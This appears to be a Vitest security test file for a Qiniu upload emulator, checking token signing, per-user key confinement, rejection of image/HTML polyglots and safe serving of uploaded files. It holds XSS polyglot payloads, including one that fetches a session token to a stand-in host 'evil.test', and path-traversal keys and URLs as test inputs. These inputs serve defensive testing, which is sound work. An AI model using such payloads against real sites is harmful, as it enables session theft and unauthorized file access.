// @vitest-environment node
// The Qiniu emulator and /files/uploads/ as an attacker meets them: tokens signed with a secret
// of the data directory, keys confined to the uploader's folder, objects stored and served
// only as the image their bytes decode as, resumable parts on disk with caps and expiry.
import { existsSync, mkdirSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  b64url,
  MAX_OPEN_PER_USER,
  qetag,
  signPolicy,
  UPLOAD_TTL_S,
  type UploadKeys,
} from './features/upload/qiniu.js';
import { FILES_POLICY } from './files.js';
import { loadSecrets } from './secrets.js';
import {
  bearer,
  DEMO,
  GUEST,
  jpegImage,
  multipart,
  pixelsOf,
  pngImage,
  serverForFile,
  startTestServer,
} from './test-helpers.js';

const s = serverForFile();
let demo: string;
let guest: string;
let PNG: Buffer;
let keys: UploadKeys;

beforeAll(async () => {
  demo = await s.login(DEMO); // user 1
  guest = await s.login(GUEST); // user 2
  PNG = await pngImage(6, 6);
  const secrets = loadSecrets(s.dataDir, {});
  keys = { accessKey: secrets.qiniuAccessKey, secretKey: secrets.qiniuSecretKey };
});

async function tokenOf(session: string): Promise<string> {
  const res = await s.call('GET', '/api/v2/qiniu/getUptoken', { headers: bearer(session) });
  expect(res.body.code).toBe('200');
  return res.body.data as string;
}

async function formUpload(token: string, key: string | null, file: Buffer) {
  const fields: Record<string, string> = { token, crc32: String(crc32(file) >>> 0) };
  if (key !== null) fields.key = key;
  return s.app.inject({ method: 'POST', url: '/qiniu-up/', ...multipart(fields, file) });
}

const get = (url: string) => s.app.inject({ method: 'GET', url });

/** Polyglots: an image signature followed by a page or a script. */
const POLYGLOTS: Array<[string, Buffer]> = [
  ['GIF89a + HTML', Buffer.from('GIF89a<html><script>alert(document.cookie)</script></html>')],
  ['GIF89a + JS', Buffer.from('GIF89a=1;fetch("//evil.test/?"+sessionStorage.getItem("t"))//')],
  [
    'PNG signature + HTML',
    Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      Buffer.from('<script>alert(1)</script>'),
    ]),
  ],
  [
    'SVG with script',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  ],
  ['plain HTML', Buffer.from('<!doctype html><script>alert(1)</script>')],
];

describe('upload tokens', () => {
  it('need a login and confine keys to the caller’s own folder (u/<user id>/)', async () => {
    const none = await s.call('GET', '/api/v2/qiniu/getUptoken');
    expect(none.body.code).toBe('401');
    const token = await tokenOf(demo);
    const policy = JSON.parse(Buffer.from(token.split(':')[2]!, 'base64').toString()) as {
      scope: string;
      isPrefixalScope: number;
      endUser: string;
    };
    expect(policy).toMatchObject({ scope: 'sztx:u/1/', isPrefixalScope: 1, endUser: '1' });
  });

  it('are signed with a secret of the data directory, never the one that was in the repository', async () => {
    const old = signPolicy(
      { scope: 'sztx', deadline: Math.floor(s.clock.now / 1000) + 600 },
      { accessKey: 'sztx-dev-access-key', secretKey: 'sztx-dev-secret-key-not-for-production' },
    );
    const res = await formUpload(old, 'anything.png', PNG);
    expect(res.statusCode).toBe(401);
    // the data directory's secret is random, private to the owner and kept across restarts
    const file = join(s.dataDir, 'secrets.json');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const other = await startTestServer();
    try {
      expect(loadSecrets(other.dataDir, {}).qiniuSecretKey).not.toBe(keys.secretKey);
      expect(loadSecrets(s.dataDir, {}).qiniuSecretKey).toBe(keys.secretKey);
    } finally {
      await other.close();
    }
    expect(() => loadSecrets(s.dataDir, { QINIU_AK: 'ak', QINIU_SK: 'short' })).toThrow(/QINIU_SK/);
    expect(() => loadSecrets(s.dataDir, { QINIU_SK: 'long-enough-secret-key' })).toThrow(
      /QINIU_AK/,
    );
    expect(
      loadSecrets(s.dataDir, { QINIU_AK: 'ak', QINIU_SK: 'long-enough-secret-key' }),
    ).toMatchObject({
      qiniuAccessKey: 'ak',
      qiniuSecretKey: 'long-enough-secret-key',
    });
  });
});

describe('form upload', () => {
  it('stores a real image in the caller’s folder and serves it as that image, sandboxed', async () => {
    const res = await formUpload(await tokenOf(demo), 'u/1/avatar_t1.png', PNG);
    expect(res.statusCode).toBe(200);
    const file = await get('/files/uploads/u/1/avatar_t1.png');
    // the hash is the stored object's (the upload encoded afresh: the same pixels)
    expect(res.json()).toEqual({ hash: qetag(file.rawPayload), key: 'u/1/avatar_t1.png' });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe('image/png');
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-security-policy']).toBe(FILES_POLICY);
    expect(await pixelsOf(file.rawPayload)).toEqual(await pixelsOf(PNG));
    // the owner may replace their own object
    const other = await pngImage(6, 6, 2);
    const again = await formUpload(await tokenOf(demo), 'u/1/avatar_t1.png', other);
    expect(again.statusCode).toBe(200);
    const replaced = (await get('/files/uploads/u/1/avatar_t1.png')).rawPayload;
    expect(await pixelsOf(replaced)).toEqual(await pixelsOf(other));
  });

  it('refuses keys outside the caller’s folder: another user’s object, the root, traversal', async () => {
    const before = await formUpload(await tokenOf(guest), 'u/2/mine.png', PNG);
    expect(before.statusCode).toBe(200);
    const token = await tokenOf(demo);
    for (const key of ['u/2/mine.png', 'mine.png', 'u/10/x.png', 'u/1x.png']) {
      const res = await formUpload(token, key, await pngImage(6, 6, 3));
      expect(res.statusCode, key).toBe(403);
    }
    for (const key of ['u/1/../2/mine.png', 'u/1/../../evil.png', '/u/1/abs.png', 'u/1//x.png']) {
      const res = await formUpload(token, key, PNG);
      expect([400, 403], key).toContain(res.statusCode);
    }
    const mine = (await get('/files/uploads/u/2/mine.png')).rawPayload;
    expect(await pixelsOf(mine)).toEqual(await pixelsOf(PNG));
  });

  it('refuses image polyglots, SVG and HTML under any key and extension', async () => {
    const token = await tokenOf(demo);
    for (const [name, bytes] of POLYGLOTS) {
      for (const key of ['u/1/x.html', 'u/1/x.js', 'u/1/x.gif', 'u/1/x.png', 'u/1/x.svg']) {
        const res = await formUpload(token, key, bytes);
        expect(res.statusCode, `${name} as ${key}`).toBe(403);
        expect((await get(`/files/uploads/${key}`)).statusCode).toBe(404);
      }
    }
  });

  it('stores an image under the extension of what its bytes are (a JPEG sent as .png is .jpg)', async () => {
    const jpeg = await jpegImage(6, 6);
    const res = await formUpload(await tokenOf(demo), 'u/1/photo.png', jpeg);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ key: 'u/1/photo.jpg' });
    const file = await get('/files/uploads/u/1/photo.jpg');
    expect(file.headers['content-type']).toBe('image/jpeg');
    expect((await get('/files/uploads/u/1/photo.png')).statusCode).toBe(404);
    // with no key, the object is named by its hash in the caller's folder
    const unnamed = await formUpload(await tokenOf(demo), null, PNG);
    const { hash } = unnamed.json() as { hash: string };
    expect(unnamed.json()).toEqual({ hash, key: `u/1/${hash}.png` });
    expect(qetag((await get(`/files/uploads/u/1/${hash}.png`)).rawPayload)).toBe(hash);
  });

  it('a crc32 mismatch is 406, a missing token 401, an expired token 401', async () => {
    const token = await tokenOf(demo);
    const bad = await s.app.inject({
      method: 'POST',
      url: '/qiniu-up/',
      ...multipart({ token, key: 'u/1/k2.png', crc32: '1' }, PNG),
    });
    expect(bad.statusCode).toBe(406);
    const none = await s.app.inject({
      method: 'POST',
      url: '/qiniu-up/',
      ...multipart({ key: 'u/1/k3.png' }, PNG),
    });
    expect(none.statusCode).toBe(401);
    expect(none.json()).toEqual({ error: 'token not specified' });
    s.clock.now += 3601 * 1000;
    const late = await formUpload(token, 'u/1/late.png', PNG);
    expect(late.json()).toEqual({ error: 'token out of date' });
  });
});

describe('/files/uploads/ serves nothing but images', () => {
  it('an object that is not the image its name says is a download, never a page or a script', async () => {
    // as written by an older version that trusted the key (files on disk, not through the API)
    const dir = join(s.dataDir, 'files', 'uploads', 'legacy');
    mkdirSync(dir, { recursive: true });
    const html = Buffer.from('GIF89a<script>alert(document.cookie)</script>');
    for (const name of ['evil.html', 'evil.js', 'evil.png', 'evil.svg', 'evil']) {
      writeFileSync(join(dir, name), html);
      const res = await get(`/files/uploads/legacy/${name}`);
      expect(res.headers['content-type'], name).toBe('application/octet-stream');
      expect(res.headers['content-disposition'], name).toBe('attachment');
      expect(res.headers['content-security-policy'], name).toBe(FILES_POLICY);
      expect(res.headers['x-content-type-options'], name).toBe('nosniff');
    }
    // its name and signature agree: an image type, which nosniff keeps from running as script
    writeFileSync(join(dir, 'evil.gif'), html);
    const gif = await get('/files/uploads/legacy/evil.gif');
    expect(gif.headers['content-type']).toBe('image/gif');
    expect(gif.headers['x-content-type-options']).toBe('nosniff');
    expect(gif.headers['content-security-policy']).toBe(FILES_POLICY);
  });

  it('spelling the folder differently does not reach the files behind the check', async () => {
    for (const url of [
      '/files/%75ploads/legacy/evil.html',
      '/files/./uploads/legacy/evil.html',
      '/files//uploads/legacy/evil.html',
      '/files/seed/../uploads/legacy/evil.html',
      '/files/seed/%2e%2e/uploads/legacy/evil.html',
    ]) {
      const res = await get(url);
      expect(String(res.headers['content-type'] ?? ''), url).not.toMatch(/html|javascript/);
      if (res.statusCode === 200)
        expect(res.headers['content-disposition'], url).toBe('attachment');
    }
  });
});

describe('resumable uploads', () => {
  const initUrl = (key: string) => `/qiniu-up/buckets/sztx/objects/${b64url(key)}/uploads`;
  const partsDir = () => join(s.dataDir, 'upload-parts');

  it('keep parts on disk, not in memory, and assemble a checked image', async () => {
    const token = await tokenOf(demo);
    const auth = { authorization: `UpToken ${token}` };
    const key = 'u/1/big.png';
    const init = await s.app.inject({ method: 'POST', url: initUrl(key), headers: auth });
    expect(init.statusCode).toBe(200);
    const { uploadId, expireAt } = init.json() as { uploadId: string; expireAt: number };
    expect(expireAt - Math.floor(s.clock.now / 1000)).toBe(UPLOAD_TTL_S);
    expect(UPLOAD_TTL_S).toBeLessThanOrEqual(6 * 3600);
    const half = Math.ceil(PNG.length / 2);
    const etags: string[] = [];
    for (const [n, chunk] of [PNG.subarray(0, half), PNG.subarray(half)].entries()) {
      const put = await s.app.inject({
        method: 'PUT',
        url: `${initUrl(key)}/${uploadId}/${n + 1}`,
        headers: { ...auth, 'content-type': 'application/octet-stream' },
        payload: chunk,
      });
      expect(put.statusCode).toBe(200);
      etags.push((put.json() as { etag: string }).etag);
    }
    expect(readdirSync(join(partsDir(), uploadId)).sort()).toEqual(['1', '2']);
    const done = await s.app.inject({
      method: 'POST',
      url: `${initUrl(key)}/${uploadId}`,
      headers: { ...auth, 'content-type': 'application/json' },
      payload: JSON.stringify({ parts: etags.map((etag, i) => ({ etag, partNumber: i + 1 })) }),
    });
    expect(done.statusCode).toBe(200);
    expect(existsSync(join(partsDir(), uploadId))).toBe(false);
    const big = (await get('/files/uploads/u/1/big.png')).rawPayload;
    expect(await pixelsOf(big)).toEqual(await pixelsOf(PNG));
  });

  it('cap the unfinished uploads of one user, and drop them with their parts after hours', async () => {
    const token = await tokenOf(guest);
    const auth = { authorization: `UpToken ${token}` };
    const ids: string[] = [];
    for (let i = 0; i < MAX_OPEN_PER_USER; i++) {
      const init = await s.app.inject({
        method: 'POST',
        url: initUrl(`u/2/p${i}.png`),
        headers: auth,
      });
      expect(init.statusCode).toBe(200);
      const { uploadId } = init.json() as { uploadId: string };
      ids.push(uploadId);
      await s.app.inject({
        method: 'PUT',
        url: `${initUrl(`u/2/p${i}.png`)}/${uploadId}/1`,
        headers: { ...auth, 'content-type': 'application/octet-stream' },
        payload: Buffer.alloc(1024 * 1024, 1),
      });
    }
    const over = await s.app.inject({
      method: 'POST',
      url: initUrl('u/2/more.png'),
      headers: auth,
    });
    expect(over.statusCode).toBe(429);
    // another user is not affected by this one's uploads
    const demoAuth = { authorization: `UpToken ${await tokenOf(demo)}` };
    const mine = await s.app.inject({
      method: 'POST',
      url: initUrl('u/1/ok.png'),
      headers: demoAuth,
    });
    expect(mine.statusCode).toBe(200);
    // another user cannot touch this one's upload, even knowing its id
    const stolen = await s.app.inject({
      method: 'DELETE',
      url: `${initUrl('u/2/p0.png')}/${ids[0]}`,
      headers: demoAuth,
    });
    expect(stolen.statusCode).toBe(403);

    s.clock.now += UPLOAD_TTL_S * 1000 + 1000;
    const fresh = { authorization: `UpToken ${await tokenOf(guest)}` };
    const again = await s.app.inject({
      method: 'POST',
      url: initUrl('u/2/more.png'),
      headers: fresh,
    });
    expect(again.statusCode).toBe(200); // the expired ones were dropped
    for (const id of ids) expect(existsSync(join(partsDir(), id))).toBe(false);
    const late = await s.app.inject({
      method: 'PUT',
      url: `${initUrl('u/2/p0.png')}/${ids[0]}/2`,
      headers: { ...fresh, 'content-type': 'application/octet-stream' },
      payload: PNG,
    });
    expect(late.statusCode).toBe(612);
  });

  it('unknown uploadId is 612; abort answers {} and removes the parts', async () => {
    const auth = { authorization: `UpToken ${await tokenOf(demo)}` };
    const key = 'u/1/gone.png';
    const unknown = await s.app.inject({
      method: 'PUT',
      url: `${initUrl(key)}/nope/1`,
      headers: { ...auth, 'content-type': 'application/octet-stream' },
      payload: PNG,
    });
    expect(unknown.statusCode).toBe(612);
    const other = await s.app.inject({
      method: 'POST',
      url: `/qiniu-up/buckets/other/objects/${b64url(key)}/uploads`,
      headers: auth,
    });
    expect(other.statusCode).toBe(403);
    const init = await s.app.inject({ method: 'POST', url: initUrl(key), headers: auth });
    const { uploadId } = init.json() as { uploadId: string };
    const del = await s.app.inject({
      method: 'DELETE',
      url: `${initUrl(key)}/${uploadId}`,
      headers: auth,
    });
    expect(del.statusCode).toBe(200);
    expect(del.json()).toEqual({});
    expect(existsSync(join(partsDir(), uploadId))).toBe(false);
  });
});
